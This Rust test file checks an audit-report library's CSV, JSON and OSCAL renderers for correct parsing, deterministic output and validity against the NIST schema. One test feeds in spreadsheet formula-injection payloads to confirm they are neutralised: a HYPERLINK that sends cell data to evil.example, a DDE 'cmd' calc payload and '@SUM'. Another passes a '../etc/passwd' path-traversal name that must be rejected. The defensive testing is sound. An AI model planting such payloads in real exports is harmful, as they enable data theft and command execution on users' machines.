//! Guards the CSV, JSON and OSCAL renderers: every file parses back to what the report says,
//! untrusted cells cannot run as spreadsheet formulas, output is byte-for-byte deterministic,
//! and the OSCAL document validates against NIST's 1.1.3 schema.

use auditledger::event::Timestamp;
use auditledger::report::model::{Cell, Column, Report, Table};
use auditledger::report::render::{
    csv as csv_render, json as json_render, oscal as oscal_render, RenderError,
};

use crate::sample_report::sample_report;

#[test]
fn sample_report_round_trips_through_json() {
    let report = crate::sample_report::sample_report(3);
    let text = serde_json::to_string(&report).unwrap();
    let back: auditledger::report::model::Report = serde_json::from_str(&text).unwrap();
    assert_eq!(back, report);
}

// ---------------------------------------------------------------------------------------
// CSV

/// Parses one CSV file: (header, rows), after checking BOM and CRLF.
fn parse_csv(name: &str, bytes: &[u8]) -> (Vec<String>, Vec<Vec<String>>) {
    assert!(bytes.starts_with(b"\xEF\xBB\xBF"), "{name}: no UTF-8 BOM");
    let lone_lf = bytes
        .iter()
        .enumerate()
        .filter(|&(i, &b)| b == b'\n' && (i == 0 || bytes[i - 1] != b'\r'))
        .count();
    assert_eq!(lone_lf, 0, "{name}: a line ends with LF, not CRLF");
    assert!(bytes.ends_with(b"\r\n"), "{name}: no final CRLF");
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(true)
        .from_reader(bytes);
    let header = reader
        .headers()
        .unwrap()
        .iter()
        .map(String::from)
        .collect::<Vec<_>>();
    assert!(
        !header[0].starts_with('\u{feff}'),
        "{name}: BOM read as data"
    );
    let rows = reader
        .records()
        .map(|r| r.unwrap().iter().map(String::from).collect())
        .collect();
    (header, rows)
}

fn file<'a>(files: &'a [(String, Vec<u8>)], name: &str) -> &'a [u8] {
    &files
        .iter()
        .find(|(n, _)| n == name)
        .unwrap_or_else(|| panic!("no file {name}"))
        .1
}

fn cell_text(cell: &Cell) -> String {
    match cell {
        Cell::Text(t) => t.clone(),
        Cell::Time(t) => t.to_rfc3339(),
        Cell::Count(n) => n.to_string(),
        Cell::Duration(s) => s.to_string(),
        Cell::Seqs(s) => s.iter().map(u64::to_string).collect::<Vec<_>>().join(";"),
        Cell::Severity(s) => s.as_str().to_string(),
        Cell::Empty => String::new(),
    }
}

/// What a reader does to undo the formula guard: drop one leading `'`.
fn unguard(cell: &str) -> &str {
    cell.strip_prefix('\'').unwrap_or(cell)
}

#[test]
fn csv_files_are_named_by_kind_and_table() {
    let files = csv_render::render(&sample_report(5)).unwrap();
    let names: Vec<&str> = files.iter().map(|(n, _)| n.as_str()).collect();
    assert_eq!(
        names,
        [
            "soc2-summary.csv",
            "soc2-cc6-2-population.csv",
            "soc2-findings.csv",
            "soc2-evidence.csv"
        ]
    );
}

#[test]
fn csv_tables_parse_back_with_their_headers_and_rows() {
    for rows in [0, 1, 5, 60] {
        let report = sample_report(rows);
        let files = csv_render::render(&report).unwrap();
        for table in report.sections.iter().flat_map(|s| &s.tables) {
            let name = format!("soc2-{}.csv", table.name);
            let (header, parsed) = parse_csv(&name, file(&files, &name));
            let keys: Vec<&str> = table.columns.iter().map(|c| c.key.as_str()).collect();
            assert_eq!(header, keys, "{name}");
            assert_eq!(parsed.len(), table.rows.len(), "{name}");
            for (got, want) in parsed.iter().zip(&table.rows) {
                let want: Vec<String> = want.iter().map(cell_text).collect();
                let got: Vec<&str> = got.iter().map(|c| unguard(c)).collect();
                assert_eq!(got, want, "{name}");
            }
        }
    }
    // The accented names arrive intact, and times and seqs in their documented forms.
    let files = csv_render::render(&sample_report(3)).unwrap();
    let (_, rows) = parse_csv("population", file(&files, "soc2-cc6-2-population.csv"));
    assert_eq!(
        rows[0],
        [
            "José Núñez",
            "2026-03-13",
            "2026-03-14T07:00:00Z",
            "2026-03-14T07:05:00Z",
            "12;13"
        ]
    );
    assert_eq!(rows[1][0], "Zoë Fischer");
}

#[test]
fn csv_summary_findings_and_evidence_match_the_report() {
    let report = sample_report(5);
    let files = csv_render::render(&report).unwrap();

    let (header, rows) = parse_csv("summary", file(&files, "soc2-summary.csv"));
    assert_eq!(header, csv_render::SUMMARY_HEADER);
    assert_eq!(rows.len(), report.summary.len());
    for (row, want) in rows.iter().zip(&report.summary) {
        assert_eq!(
            row,
            &[
                want.id.clone(),
                want.title.clone(),
                want.population.to_string(),
                want.exceptions.to_string(),
                want.conclusion.clone()
            ]
        );
    }

    let (header, rows) = parse_csv("findings", file(&files, "soc2-findings.csv"));
    assert_eq!(header, csv_render::FINDINGS_HEADER);
    assert_eq!(rows.len(), report.findings.len());
    for (row, f) in rows.iter().zip(&report.findings) {
        let seqs: Vec<String> = f.evidence.iter().map(|e| e.seq.to_string()).collect();
        assert_eq!(
            row,
            &[
                f.id.clone(),
                f.rule.clone(),
                f.severity.as_str().to_string(),
                f.subject.clone(),
                f.person.clone().unwrap_or_default(),
                f.at.to_rfc3339(),
                f.summary.clone(),
                f.controls.join(";"),
                seqs.join(";"),
            ]
        );
    }
    assert_eq!(rows[0][7], "SOC2:CC6.2;HIPAA:164.308(a)(3)(ii)(C)");
    assert_eq!(rows[0][8], "12;41");

    let (header, rows) = parse_csv("evidence", file(&files, "soc2-evidence.csv"));
    assert_eq!(header, csv_render::EVIDENCE_HEADER);
    assert_eq!(rows.len(), report.evidence.len());
    for (row, e) in rows.iter().zip(&report.evidence) {
        assert_eq!(
            row,
            &[
                e.seq.to_string(),
                e.hash.clone(),
                e.kind.clone(),
                e.source.clone(),
                e.occurred_at.to_rfc3339()
            ]
        );
    }
}

#[test]
fn csv_neutralises_formula_cells_from_log_data() {
    let mut report = sample_report(2);
    let payload = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
    report.sections[0].tables[0].rows[0][0] = Cell::Text(payload.into());
    report.findings[0].person = Some("@SUM(1+1)".into());
    report.findings[0].summary = "+cmd|' /C calc'!A0".into();
    report.evidence[0].source = "-2+3".into();
    report.summary[0].title = "'quoted already".into();
    let files = csv_render::render(&report).unwrap();

    let (_, rows) = parse_csv("population", file(&files, "soc2-cc6-2-population.csv"));
    assert_eq!(rows[0][0], format!("'{payload}"));
    // The quote-wrapping keeps `;` and `,` inside the cell in any separator locale.
    let raw = String::from_utf8(file(&files, "soc2-cc6-2-population.csv").to_vec()).unwrap();
    assert!(raw.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\""));
    assert!(raw.contains("\"12;13\""));

    let (_, rows) = parse_csv("findings", file(&files, "soc2-findings.csv"));
    assert_eq!(rows[0][4], "'@SUM(1+1)");
    assert_eq!(rows[0][6], "'+cmd|' /C calc'!A0");
    let (_, rows) = parse_csv("evidence", file(&files, "soc2-evidence.csv"));
    assert_eq!(rows[0][3], "'-2+3");
    let (_, rows) = parse_csv("summary", file(&files, "soc2-summary.csv"));
    assert_eq!(
        rows[0][1], "''quoted already",
        "a leading ' is doubled, so it reverses"
    );
    // No cell of any file begins with a formula trigger (a number may begin with `-`).
    for (name, bytes) in &files {
        let (header, rows) = parse_csv(name, bytes);
        for c in header.iter().chain(rows.iter().flatten()) {
            let formula = match c.trim_start().chars().next() {
                Some('=' | '+' | '@') => true,
                Some('-') => c.parse::<i64>().is_err(),
                _ => false,
            };
            assert!(!formula, "{name}: {c:?}");
        }
    }
}

#[test]
fn csv_negative_durations_stay_numbers() {
    let mut report = sample_report(1);
    let table = &mut report.sections[0].tables[0];
    table.columns.push(Column {
        key: "after_expiry_seconds".into(),
        title: "After expiry".into(),
        width: 1,
    });
    table.rows[0].push(Cell::Duration(-3600));
    let files = csv_render::render(&report).unwrap();
    let (header, rows) = parse_csv("population", file(&files, "soc2-cc6-2-population.csv"));
    assert_eq!(header.last().unwrap(), "after_expiry_seconds");
    assert_eq!(rows[0].last().unwrap(), "-3600");
}

#[test]
fn csv_rejects_reports_it_cannot_write_faithfully() {
    let bad_name = |name: &str| {
        let mut report = sample_report(1);
        report.sections[0].tables[0].name = name.into();
        csv_render::render(&report)
    };
    for name in ["../etc/passwd", "", ".hidden", "a/b", "a b"] {
        assert!(
            matches!(bad_name(name), Err(RenderError::TableName { .. })),
            "{name:?}"
        );
    }
    for name in ["summary", "findings", "evidence"] {
        assert!(
            matches!(bad_name(name), Err(RenderError::DuplicateFile(_))),
            "{name:?}"
        );
    }

    let mut report = sample_report(2);
    report.sections[0].tables[0].rows[1].pop();
    let err = csv_render::render(&report).unwrap_err();
    assert!(
        matches!(
            err,
            RenderError::RowWidth {
                row: 2,
                expected: 5,
                got: 4,
                ..
            }
        ),
        "{err}"
    );

    let mut report = sample_report(1);
    report.sections[0].tables.push(Table {
        name: "empty".into(),
        title: "Empty".into(),
        columns: vec![],
        rows: vec![vec![Cell::Empty]],
        empty_text: String::new(),
    });
    assert!(csv_render::render(&report).is_err());

    let mut report = sample_report(1);
    report.findings[0].controls.push("A;B".into());
    assert!(matches!(
        csv_render::render(&report),
        Err(RenderError::ListSeparator { .. })
    ));

    let mut report = sample_report(1);
    report.sections[0].tables[0].rows[0][2] = Cell::Time(Timestamp(i64::MAX));
    let err = csv_render::render(&report).unwrap_err();
    assert!(matches!(err, RenderError::TimeOutOfRange { .. }), "{err}");
}

#[test]
fn csv_is_deterministic() {
    let report: Report = sample_report(60);
    assert_eq!(
        csv_render::render(&report).unwrap(),
        csv_render::render(&report).unwrap()
    );
}

// ---------------------------------------------------------------------------------------
// JSON

#[test]
fn json_parses_back_to_the_same_report() {
    for rows in [0, 5, 60] {
        let report = sample_report(rows);
        let bytes = json_render::render(&report);
        assert!(bytes.ends_with(b"}\n"), "trailing newline");
        assert!(!bytes.starts_with(b"\xEF\xBB\xBF"));
        let back: Report = serde_json::from_slice(&bytes).unwrap();
        assert_eq!(back, report);
    }
    let text = String::from_utf8(json_render::render(&sample_report(1))).unwrap();
    assert!(text.starts_with("{\n  \"schema_version\": 1,\n  \"kind\": \"soc2\","));
    assert!(text.contains("\"generated_at\": \"2026-04-01T09:00:00Z\""));
    assert!(text.contains("\"type\": \"seqs\",\n"));
    assert!(text.contains("José Núñez"), "UTF-8, not \\u escapes");
}

#[test]
fn json_is_deterministic() {
    let report = sample_report(60);
    assert_eq!(json_render::render(&report), json_render::render(&report));
}

// ---------------------------------------------------------------------------------------
// OSCAL

const SCHEMA_DIR: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../shared/schemas/oscal");

fn read_json(name: &str) -> serde_json::Value {
    let path = format!("{SCHEMA_DIR}/{name}");
    let text = std::fs::read_to_string(&path).unwrap_or_else(|e| {
        panic!(
            "cannot read {path}: {e}. The OSCAL tests need NIST's schema and example in \
             ../shared/schemas/oscal/ beside the repository (see its README.md); they do \
             not skip without them."
        )
    });
    serde_json::from_str(&text).unwrap_or_else(|e| panic!("{path}: not JSON: {e}"))
}

/// NIST's OSCAL 1.1.3 assessment-results schema, compiled as draft-07 with `format`
/// checked (`date-time`, `uri`, `uri-reference`...), asked for explicitly rather than left
/// to the crate's per-draft default.
fn oscal_validator() -> &'static jsonschema::Validator {
    static VALIDATOR: std::sync::OnceLock<jsonschema::Validator> = std::sync::OnceLock::new();
    VALIDATOR.get_or_init(|| {
        let schema = read_json("oscal_assessment-results_schema.json");
        assert_eq!(
            schema["$schema"], "http://json-schema.org/draft-07/schema#",
            "the schema file is not the draft-07 OSCAL schema"
        );
        jsonschema::draft7::options()
            .should_validate_formats(true)
            .build(&schema)
            .unwrap_or_else(|e| panic!("the OSCAL schema does not compile: {e}"))
    })
}

pub fn schema_errors(document: &serde_json::Value) -> Vec<String> {
    oscal_validator()
        .iter_errors(document)
        .map(|e| format!("{} at {}", e, e.instance_path()))
        .collect()
}

fn oscal(report: &Report) -> serde_json::Value {
    let bytes = oscal_render::render(report).unwrap();
    assert!(bytes.ends_with(b"}\n"));
    serde_json::from_slice(&bytes).unwrap()
}

#[test]
fn oscal_validator_accepts_the_official_example() {
    let example = read_json("ifa_assessment-results-example.json");
    let errors = schema_errors(&example);
    assert!(errors.is_empty(), "{errors:#?}");
}

#[test]
fn oscal_validator_checks_tokens_and_formats() {
    // `\p{L}` in TokenDatatype: a letter outside ASCII passes, punctuation does not.
    let mut example = read_json("ifa_assessment-results-example.json");
    example["assessment-results"]["metadata"]["roles"][0]["id"] = "prüfer".into();
    assert!(schema_errors(&example).is_empty());
    example["assessment-results"]["metadata"]["roles"][0]["id"] = "bad name!".into();
    assert!(!schema_errors(&example).is_empty());
    // `format: uri-reference` has no pattern behind it: only format checking catches this.
    let mut example = read_json("ifa_assessment-results-example.json");
    example["assessment-results"]["import-ap"]["href"] = "http://[not a uri".into();
    assert!(
        !schema_errors(&example).is_empty(),
        "formats are not checked"
    );
    // The OSCAL pattern for date-times is stricter than `format: date-time`, so show the
    // format check on its own (the crate's default depends on the draft; we ask for it).
    let schema = serde_json::json!({"format": "date-time"});
    let no_zone = serde_json::json!("2026-04-01T09:00:00");
    let checked = jsonschema::draft7::options()
        .should_validate_formats(true)
        .build(&schema)
        .unwrap();
    assert!(!checked.is_valid(&no_zone));
    assert!(checked.is_valid(&serde_json::json!("2026-04-01T09:00:00Z")));
}

#[test]
fn oscal_output_is_valid_against_the_nist_schema() {
    for rows in [0, 5, 60] {
        let errors = schema_errors(&oscal(&sample_report(rows)));
        assert!(errors.is_empty(), "sample_report({rows}): {errors:#?}");
    }
}

#[test]
fn oscal_output_of_odd_reports_is_valid() {
    // Nothing to say: no period, no summary, no findings, no evidence, no checkpoint.
    let mut empty = sample_report(0);
    empty.period = None;
    empty.summary.clear();
    empty.sections.clear();
    empty.findings.clear();
    empty.evidence.clear();
    empty.attestation.checkpoint.clear();
    empty.origin.clear();
    empty.title.clear();
    let errors = schema_errors(&oscal(&empty));
    assert!(errors.is_empty(), "empty report: {errors:#?}");

    // Untrusted text with whitespace, line breaks, control characters and Markdown.
    let mut odd = sample_report(2);
    let f = &mut odd.findings[0];
    f.summary = "  two\nlines [click](http://evil.example) <b>x</b> ".into();
    f.subject = "\tjose@acme.example\u{1c} ".into();
    f.person = Some("\n".into());
    f.controls = vec![
        "HIPAA:164.308(a)(1)(ii)(D)".into(),
        "".into(),
        "  ".into(),
        "Ünïcode".into(),
    ];
    f.details.insert(" key\n".into(), "value\r\n".into());
    odd.findings.push(odd.findings[0].clone()); // same id twice
    odd.findings[1].controls.clear();
    odd.policy.profile = " ".into();
    odd.attestation.verification = "line one\nline two".into();
    odd.attestation.checkpoint = "```\nfenced\n```\n".into();
    odd.summary[0].id = "164.312(b)".into();
    odd.kind = auditledger::report::model::ReportKind::Hipaa;
    odd.generated_at = Timestamp::parse_rfc3339("2026-04-01T09:00:00.123456Z").unwrap();
    let doc = oscal(&odd);
    let errors = schema_errors(&doc);
    assert!(errors.is_empty(), "odd report: {errors:#?}");
    let targets: Vec<&str> = doc["assessment-results"]["results"][0]["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["target"]["target-id"].as_str().unwrap())
        .collect();
    assert_eq!(
        targets,
        [
            "hipaa-164.308-a-1-ii-d",
            "n-code",
            "access-after-expiry",
            "hipaa-164.312-b",
            "cc6.3"
        ],
        "blank controls are skipped; a finding without controls targets its rule"
    );
}

#[test]
fn oscal_mutations_are_caught_by_the_validator() {
    let good = oscal(&sample_report(5));
    assert!(schema_errors(&good).is_empty());
    type Mutation = fn(&mut serde_json::Value);
    let mutations: [(&str, Mutation); 6] = [
        ("v1 uuid", |d| {
            d["assessment-results"]["uuid"] = "c232ab00-9414-11ec-b3c8-9f6bdeced846".into()
        }),
        ("v7 uuid in a finding", |d| {
            d["assessment-results"]["results"][0]["findings"][0]["uuid"] =
                "018f3b6e-8c2a-7b3e-9f1a-2b3c4d5e6f70".into()
        }),
        ("missing metadata", |d| {
            d["assessment-results"]
                .as_object_mut()
                .unwrap()
                .remove("metadata");
        }),
        ("date-time without zone", |d| {
            d["assessment-results"]["metadata"]["last-modified"] = "2026-04-01T09:00:00".into()
        }),
        ("empty optional array", |d| {
            d["assessment-results"]["results"][0]["observations"] = serde_json::json!([])
        }),
        ("prop value with a trailing newline", |d| {
            d["assessment-results"]["metadata"]["props"][0]["value"] = "soc2\n".into()
        }),
    ];
    for (name, mutate) in mutations {
        let mut bad = good.clone();
        mutate(&mut bad);
        assert_ne!(bad, good, "{name}: the mutation changed nothing");
        assert!(!schema_errors(&bad).is_empty(), "{name}: not caught");
    }
}

#[test]
fn oscal_content_follows_the_report() {
    let report = sample_report(5);
    let doc = oscal(&report);
    let ar = &doc["assessment-results"];
    assert_eq!(ar["metadata"]["oscal-version"], "1.1.3");
    assert_eq!(ar["metadata"]["last-modified"], "2026-04-01T09:00:00Z");
    let result = &ar["results"][0];
    assert_eq!(result["start"], "2026-01-01T00:00:00Z");
    assert_eq!(result["end"], "2026-03-31T23:59:59Z");

    let reviewed: Vec<&str> = result["reviewed-controls"]["control-selections"][0]
        ["include-controls"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["control-id"].as_str().unwrap())
        .collect();
    assert_eq!(reviewed, ["cc6.2", "cc6.3", "hipaa-164.308-a-3-ii-c"]);

    // The finding, once per control, not satisfied; CC6.3 (no exceptions) satisfied.
    let findings = result["findings"].as_array().unwrap();
    let states: Vec<(&str, &str)> = findings
        .iter()
        .map(|f| {
            (
                f["target"]["target-id"].as_str().unwrap(),
                f["target"]["status"]["state"].as_str().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        states,
        [
            ("cc6.2", "not-satisfied"),
            ("hipaa-164.308-a-3-ii-c", "not-satisfied"),
            ("cc6.3", "satisfied")
        ]
    );

    // Observations: one per summary row, one per cited entry with seq and hash props.
    let observations = result["observations"].as_array().unwrap();
    assert_eq!(
        observations.len(),
        report.summary.len() + report.evidence.len()
    );
    let prop = |o: &serde_json::Value, name: &str| -> Option<String> {
        o["props"].as_array()?.iter().find_map(|p| {
            (p["name"] == name && p["ns"] == oscal_render::NS)
                .then(|| p["value"].as_str().unwrap().to_string())
        })
    };
    for entry in &report.evidence {
        let o = observations
            .iter()
            .find(|o| prop(o, "ledger-seq") == Some(entry.seq.to_string()))
            .unwrap_or_else(|| panic!("no observation for #{}", entry.seq));
        assert_eq!(prop(o, "entry-hash").as_deref(), Some(entry.hash.as_str()));
        assert_eq!(o["methods"][0], "EXAMINE");
        // The finding that cites the entry points at its observation.
        assert!(findings[0]["related-observations"]
            .as_array()
            .unwrap()
            .iter()
            .any(|r| r["observation-uuid"] == o["uuid"]));
    }

    // Back-matter: the checkpoint bound byte for byte, and the plan import resolves.
    let resources = ar["back-matter"]["resources"].as_array().unwrap();
    let href = ar["import-ap"]["href"].as_str().unwrap();
    assert!(resources
        .iter()
        .any(|r| format!("#{}", r["uuid"].as_str().unwrap()) == href));
    let checkpoint = resources
        .iter()
        .find(|r| r["base64"].is_object())
        .expect("checkpoint resource");
    use base64::Engine as _;
    let note = base64::engine::general_purpose::STANDARD
        .decode(checkpoint["base64"]["value"].as_str().unwrap())
        .unwrap();
    assert_eq!(note, report.attestation.checkpoint.as_bytes());
    assert_eq!(prop(checkpoint, "tree-size").as_deref(), Some("120"));
    assert_eq!(
        prop(checkpoint, "key-fingerprint").as_deref(),
        Some("033de0ae")
    );
    assert_eq!(
        prop(checkpoint, "verifier-key").as_deref(),
        Some(report.attestation.verifier_key.as_str())
    );

    // Every uuid defined is distinct, and v5.
    let mut uuids = Vec::new();
    collect_uuids(&doc, &mut uuids);
    let distinct: std::collections::BTreeSet<&String> = uuids.iter().collect();
    assert_eq!(distinct.len(), uuids.len(), "uuids repeat: {uuids:?}");
    assert!(uuids.iter().all(|u| u.as_bytes()[14] == b'5'), "{uuids:?}");
}

/// Every `uuid` defined in the document (not references to them), in order.
fn collect_uuids(value: &serde_json::Value, out: &mut Vec<String>) {
    match value {
        serde_json::Value::Object(map) => {
            for (key, v) in map {
                if key == "uuid" {
                    out.push(v.as_str().unwrap().to_string());
                } else {
                    collect_uuids(v, out);
                }
            }
        }
        serde_json::Value::Array(items) => items.iter().for_each(|v| collect_uuids(v, out)),
        _ => {}
    }
}

#[test]
fn oscal_refuses_what_the_schema_cannot_hold() {
    let mut report = sample_report(1);
    report.generated_at = Timestamp::parse_rfc3339("1899-12-31T23:59:59Z").unwrap();
    let err = oscal_render::render(&report).unwrap_err();
    assert!(matches!(err, RenderError::TimeOutOfRange { .. }), "{err}");

    let mut report = sample_report(1);
    report.findings[0].at = Timestamp(i64::MIN);
    assert!(oscal_render::render(&report).is_err());

    let mut report = sample_report(1);
    report.period.as_mut().unwrap().to = "31/03/2026".into();
    assert!(matches!(
        oscal_render::render(&report),
        Err(RenderError::Period { field: "to", .. })
    ));

    let mut report = sample_report(1);
    report.evidence[0].hash = "ff".repeat(32);
    assert!(matches!(
        oscal_render::render(&report),
        Err(RenderError::EvidenceConflict { seq: 12, .. })
    ));
}

#[test]
fn oscal_is_deterministic_and_specific_to_the_report() {
    let report = sample_report(60);
    let first = oscal_render::render(&report).unwrap();
    assert_eq!(first, oscal_render::render(&report).unwrap());
    let mut later = report.clone();
    later.generated_at = Timestamp::parse_rfc3339("2026-04-02T09:00:00Z").unwrap();
    let a = oscal(&report);
    let b = oscal(&later);
    assert_ne!(
        a["assessment-results"]["uuid"],
        b["assessment-results"]["uuid"]
    );
}
